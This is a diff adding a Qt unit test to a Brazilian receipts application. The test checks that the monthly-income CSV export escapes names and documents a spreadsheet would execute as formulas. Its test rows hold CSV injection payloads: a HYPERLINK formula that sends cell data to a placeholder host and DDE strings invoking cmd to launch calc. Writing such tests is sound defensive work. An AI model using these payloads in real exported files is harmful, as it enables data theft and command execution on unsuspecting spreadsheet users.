@@ -1,8 +1,10 @@
 #include "reports/frmRelRendimentoMensal.h"
 
+#include "app/core/Conexao.h"
 #include "controls/lvButtons.h"
 #include "controls/uscSelecionaRegistro.h"
 #include "controls/uscTextBox.h"
+#include "reports/RendimentosMensais.h"
 #include "tests/reports/RecibosDoAno.h"
 #include "tests/reports/TelaRelatorioTeste.h"
 #include "tests/support/TextoPdf.h"
@@ -18,6 +20,8 @@ private slots:
   void relatorioPorMesETipo();
   void exportarCsv_data();
   void exportarCsv();
+  void celulasQueAPlanilhaExecutaria_data();
+  void celulasQueAPlanilhaExecutaria();
 
 private:
   void escolher(const QString& emitente, const QString& ano) const;
@@ -116,6 +120,57 @@ void tst_frmRelRendimentoMensal::exportarCsv() {
     QCOMPARE(gravado.readAll(), conteudo);
   }
   QCOMPARE(QDir(pasta.path()).entryList(QDir::Files).size(), conteudo.isEmpty() ? 0 : 1);
+}
+
+// A payer's name or document that a spreadsheet would run as a formula is written as text; the
+// amount, which the program writes itself, stays a number even when negative.
+void tst_frmRelRendimentoMensal::celulasQueAPlanilhaExecutaria_data() {
+  QTest::addColumn<QString>("nome");
+  QTest::addColumn<QString>("documento");
+  QTest::addColumn<qint64>("valor");
+  QTest::addColumn<QString>("celulas");  // CPF/CNPJ;Nome;Valor as written
+  QTest::newRow("= with quotes and ;")
+      << "=HYPERLINK(\"http://x.example/?\"&A1;\"Ver\")"
+      << "11144477735" << qint64(1500000)
+      << "111.444.777-35;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Ver\"\")\";150,00";
+  QTest::newRow("+") << "+55 11 99999-0000"
+                     << "11144477735" << qint64(1500000) << "111.444.777-35;'+55 11 99999-0000;150,00";
+  QTest::newRow("-") << "-2+3+cmd|' /C calc'!A0"
+                     << "11144477735" << qint64(1500000) << "111.444.777-35;'-2+3+cmd|' /C calc'!A0;150,00";
+  QTest::newRow("@") << "@SUM(1+1)*cmd|' /C calc'!A0"
+                     << "11144477735" << qint64(1500000) << "111.444.777-35;'@SUM(1+1)*cmd|' /C calc'!A0;150,00";
+  QTest::newRow("tab") << "\t=1+1"
+                       << "11144477735" << qint64(1500000) << "111.444.777-35;'\t=1+1;150,00";
+  QTest::newRow("carriage return, quoted") << "\r=1+1"
+                                           << "11144477735" << qint64(1500000) << "111.444.777-35;\"'\r=1+1\";150,00";
+  QTest::newRow("after spaces") << "  =1+1"
+                                << "11144477735" << qint64(1500000) << "111.444.777-35;'  =1+1;150,00";
+  QTest::newRow("document that is no CPF") << "Ana"
+                                           << "=1+1" << qint64(1500000) << "'=1+1;Ana;150,00";
+  QTest::newRow("sign inside a name") << "Ana-Maria = Sócia"
+                                      << "" << qint64(1500000) << ";Ana-Maria = Sócia;150,00";
+  QTest::newRow("negative amount stays a number")
+      << "Estorno"
+      << "11144477735" << qint64(-100000) << "111.444.777-35;Estorno;-10,00";
+}
+
+void tst_frmRelRendimentoMensal::celulasQueAPlanilhaExecutaria() {
+  QFETCH(QString, nome);
+  QFETCH(QString, documento);
+  QFETCH(qint64, valor);
+  QFETCH(QString, celulas);
+  QVERIFY(teste_.pasta->executar(QStringLiteral("INSERT INTO tbPessoa (Codigo, Descricao, TipoPessoa, Documento01) "
+                                                "VALUES (7, ?, 0, ?)"),
+                                 {nome, documento}));
+  QVERIFY(teste_.pasta->executar(QStringLiteral("INSERT INTO tbRecibo (Codigo, Ano, DataEmissao, Valor, Recebi, "
+                                                "Emitente, Referente) VALUES (8, 2025, '2025-05-02', ?, 7, 1, 'x')"),
+                                 {valor}));
+  QVERIFY(RendimentosMensais::Preparar(Conexao::Banco(), 1, 2025));
+  QByteArray csv;
+  QVERIFY(RendimentosMensais::Csv(Conexao::Banco(), csv));
+  // May is the last month with receipts: its single line ends the file.
+  const QByteArray linha = "\r\n05/2025;Pessoa f\xC3\xADsica;" + celulas.toUtf8() + "\r\n";
+  QVERIFY2(csv.endsWith(linha), csv.constData());
 }
 
 QTEST_MAIN(tst_frmRelRendimentoMensal)
